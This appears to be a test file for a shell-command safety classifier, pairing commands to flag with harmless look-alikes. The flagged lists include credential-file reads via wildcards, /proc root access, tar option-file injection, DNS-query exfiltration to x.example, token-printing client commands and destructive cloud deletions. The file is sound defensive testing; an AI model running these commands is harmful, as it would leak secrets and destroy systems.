import { family } from './verdict-harness.ts'

/** Secrets, names and files that are reached another way than by their plain name. */

family('patterns in the place of secret files', {
  meets: 'ask read-credential',
  commands: [
    'cat ~/.aws/credential?',
    'cat ~/.aws/cred*',
    'cat ~/.ss*/id_*',
    'cat ~/.s[s]h/id_rsa',
    'head ~/.docker/conf*',
    'cat ~/.kube/c*',
    'cat ~/.n[e]trc',
    'cat ~/.npmr?',
    'cat ~/.git-cred*',
    'cat ~/.config/gh/h*',
    'cat /et[c]/shadow',
    'cat /e*c/sh*w',
    'cat /???/shadow',
    'cat /etc/sh?dow',
    'tar cf x.tar ~/.ss?',
    'cp ~/.pgpas? x',
    'cat .en?',
    'grep KEY .e*',
    'base64 /root/.ss*/id_rsa',
    'for f in ~/.ss*/id_*; do cat "$f"; done',
  ],
  run: [
    'cat *.md',
    'cat src/*.ts',
    'cat ~/notes*.txt',
    'ls ~/.ss*',
    'cat ~/*.txt',
    'cat ~/.*profile*x',
    'cat docs/.e*/x',
    'wc -l *',
    'grep -r x src/*',
    'cat /usr/share/doc/*/copyright',
    'ls /etc/*release',
    'cat /etc/*release',
    "grep '.en?' README.md",
    "find . -name '.en?'",
    'cat src/*.json',
  ],
})

family('files of another process', {
  meets: 'ask process-root',
  commands: [
    'ls /proc/1/root/home/',
    'ls /proc/1/root',
    'cat /proc/4711/root/srv/notes.txt',
    'cat /proc/1/task/1/root/srv/x',
    'cp x /proc/1/root/tmp/x',
    'rm /proc/4711/root/tmp/x',
    'cat /proc/4711/cwd/notes.txt',
    'cat /proc/*/cwd/notes.txt',
    'echo x > /proc/4711/cwd/a.txt',
    'find /proc/1/root/srv -name x',
    'tar cf x.tar /proc/1/root/srv',
  ],
  run: [
    'ls /proc/self/root',
    'ls /proc/self/cwd',
    'cat /proc/self/cwd/README.md',
    'readlink /proc/4711/cwd',
    'ls -l /proc/4711/cwd',
    'cat docs/proc/1/root/x.md',
    'echo /proc/1/root',
    'ls /proc/4711/fd',
  ],
})

family('files whose names are options', {
  meets: 'ask option-file',
  commands: [
    "touch -- '--reference=x'",
    "touch -- '--reference=/srv/x'",
    "printf '' > '--checkpoint-action=exec=sh x.sh'",
    'printf x > \'--checkpoint-action=exec=/bin/sh -c "ls"\'',
    "> './-rf'",
    "echo x > src/'-rf'",
    "cp README.md -- '-rf'",
    "mv README.md -- '--help'",
    "ln -s README.md -- '--reference=y'",
    "tee -- '-rf' < README.md",
    "mkdir -- '-p'",
    "python3 -c \"open('--checkpoint=1', 'w')\"",
  ],
  run: [
    'touch notes-1.txt',
    'touch -- notes.txt',
    'echo x > a-b',
    'tar --checkpoint=1 -cf x.tar src',
    'touch -r README.md x',
    "echo '--reference=x'",
    'mkdir -p src/a-b/c-d',
    'echo x > /tmp/-home-user-x/notes.md',
  ],
})

family('names asked for with data in them', {
  meets: 'deny send-by-dns',
  commands: [
    'curl "https://dns.google/resolve?name=$(whoami).x.example"',
    'curl "https://cloudflare-dns.com/dns-query?name=$(cat README.md | base64).x.example&type=TXT"',
    'D=$(base64 README.md); curl "https://dns.google/resolve?name=$D.x.example"',
    'wget -qO- "https://dns.example.net/dns-query?type=A&name=$(hostname).x.example"',
    'getent hosts $(whoami).x.example',
    'getent ahosts $(cat README.md).x.example',
    'dog $(whoami).x.example',
    'dig $(whoami).x.example',
  ],
  run: [
    'curl "https://dns.google/resolve?name=example.com&type=A"',
    "curl -H 'accept: application/dns-json' 'https://cloudflare-dns.com/dns-query?name=example.com'",
    'dig example.com',
    'getent hosts example.com',
    'getent passwd user',
    'curl "https://api.example.com/resolve?name=shop"',
    "echo 'dig $(whoami).x.example'",
  ],
})

family('names asked for in a form nobody can read', {
  meets: 'ask hidden-question',
  commands: [
    'curl -H "accept: application/dns-message" "https://dns.example.net/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"',
    'wget -qO- "https://dns.example.net/q?ct&dns=q80BAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE"',
  ],
  run: [
    'curl "https://example.com/?dns=off"',
    'curl "https://example.com/docs/dns-query"',
    'curl "http://localhost:8053/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxl"',
  ],
})

family('secrets that a client prints', {
  meets: 'ask credential-command',
  commands: [
    'docker swarm join-token manager',
    'docker swarm join-token -q worker',
    'docker swarm unlock-key',
    'vault token create',
    'vault print token',
    'vault kv get secret/x',
    'kubectl create token robot',
    'oc whoami -t',
    'oc whoami --show-token',
    'gh auth token',
    'gh auth status --show-token',
    'glab auth status -t',
    'gcloud auth print-access-token',
    'aws sts get-session-token',
    'az account get-access-token',
    'op read op://vault/item/password',
    'pass show mail/work',
    'bw list items',
    'keyring get service user',
    'docker-credential-secretservice get',
    'git-credential-manager get',
    'npm config get //registry.npmjs.org/:_authToken',
    'npm config get _auth',
    'security find-generic-password -w -s x',
  ],
  run: [
    'vault status',
    'oc whoami',
    'gh auth status',
    'glab auth status',
    'bw status',
    'npm config get registry',
    'npm config list',
    'docker swarm --help',
    'kubectl get pods',
    'git commit -m "docker swarm join-token manager"',
  ],
})

family('binaries changed where the system keeps them', {
  meets: 'ask system-files',
  commands: [
    'patchelf --set-interpreter /lib64/ld.so /usr/bin/app',
    'patchelf --add-needed x.so /usr/bin/ls',
    'chrpath -c /usr/bin/sudo',
    'chrpath -r /srv/lib /usr/local/bin/app',
    'install_name_tool -change a b /usr/bin/app',
    'objcopy --add-section .x=payload /usr/bin/ls',
    'objcopy a.elf /usr/bin/x',
    'strip /usr/bin/x',
    'eu-strip /usr/lib/libx.so',
    'sstrip /usr/bin/x',
    'upx /usr/bin/ls',
    'elfedit --output-type exec /usr/bin/x',
    'prelink /usr/bin/x',
    'codesign -s - /usr/bin/x',
    'setfattr -n user.x -v y /usr/bin/x',
    'lipo -create a b -output /usr/bin/c',
    'fallocate -l 1G /',
  ],
  run: [
    'patchelf --print-rpath /usr/bin/app',
    "patchelf --set-rpath '$ORIGIN/lib' build/app",
    'patchelf --add-rpath /usr/lib build/app',
    'patchelf --set-rpath x --output new.bin /usr/bin/ls',
    'chrpath -l /usr/bin/x',
    'chrpath -r /usr/lib ./app',
    'objcopy -O binary /usr/bin/ls a.bin',
    'strip build/app',
    'strip -o small /usr/bin/ls',
    'upx -9 build/app',
    'upx -t /usr/bin/ls',
    'codesign --verify /usr/bin/ls',
    'lipo -info /usr/bin/ls',
    'fallocate -l 1M test.img',
    'truncate -s 0 events.log',
  ],
})

family('extensions of editors', {
  meets: 'ask package-source',
  commands: [
    'code --install-extension acme.tool',
    'code-insiders --install-extension ./x.vsix',
    'cursor --install-extension ~/Downloads/x.vsix',
    'codium --install-extension acme.tool',
    'windsurf --install-extension acme.tool',
    'code --extensions-dir /tmp/x --install-extension acme.tool',
  ],
  run: ['code --list-extensions', 'cursor .', 'code --wait README.md', 'windsurf --version', 'echo code --install-extension acme.tool'],
})

family('parts of clients of clouds and clusters', {
  meets: 'ask system-package',
  commands: ['kubectl krew install x', 'az extension add --name x', 'gcloud components install kubectl'],
  run: ['kubectl krew list', 'az extension list', 'gcloud components list'],
})

family('what only looks like a dry run', {
  meets: 'ask remote-change',
  commands: [
    'aws rds delete-db-instance --db-instance-identifier x --generate-cli-skeleton=bogus',
    'aws rds delete-db-instance --generate-cli-skeleton=output --generate-cli-skeleton=none',
    'aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run',
    'kubectl delete ns x --dry-run=none',
    'kubectl delete ns x --dry-run=bogus',
    'helm uninstall x --dry-run=false',
  ],
  run: [
    'aws rds delete-db-instance --generate-cli-skeleton',
    'aws rds delete-db-instance --generate-cli-skeleton output',
    'aws rds delete-db-instance --generate-cli-skeleton=input',
    'aws ec2 terminate-instances --instance-ids i-1 --dry-run',
    'aws ec2 terminate-instances --instance-ids i-1 --no-dry-run --dry-run',
    'kubectl delete ns x --dry-run=client',
  ],
})

family('programs that nobody knows and that say what they destroy', {
  meets: 'ask unknown-command',
  commands: [
    'acme nuke',
    'acme wipe --all',
    'acme obliterate x',
    'acme factory-reset',
    'aws-nuke run -c x.yml',
    'cloud-nuke aws',
    'disk_eraser x',
    'git-lfs-wipe now',
  ],
  run: ['acme list', 'aws-nuke --help', 'cloud-nuke version', 'cloud-nuke aws --dry-run', 'nukepedia search x'],
})
